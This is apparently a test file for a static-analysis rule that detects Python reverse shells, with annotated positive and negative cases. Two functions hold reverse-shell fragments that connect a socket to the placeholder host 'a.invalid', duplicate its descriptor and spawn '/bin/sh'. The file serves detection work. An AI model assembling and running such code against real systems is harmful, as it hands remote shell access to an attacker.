import os, pty, socket, subprocess


def a():
    s = socket.socket()
    s.connect(("a.invalid", 1))
    # ruleid: shells-reverse-python
    os.dup2(s.fileno(), 0)


def c():
    s = socket.socket()
    # ruleid: shells-reverse-python
    s.connect(("a.invalid", 1))
    pty.spawn("/bin/sh")


def b(log):
    # ok: shells-reverse-python
    os.dup2(2, 1)
    # ok: shells-reverse-python
    subprocess.run(["make"], stdin=subprocess.DEVNULL)


def detaches():
    out = open("/var/log/acme.log", "ab")
    # ok: shells-reverse-python
    os.dup2(out.fileno(), sys.stdout.fileno())
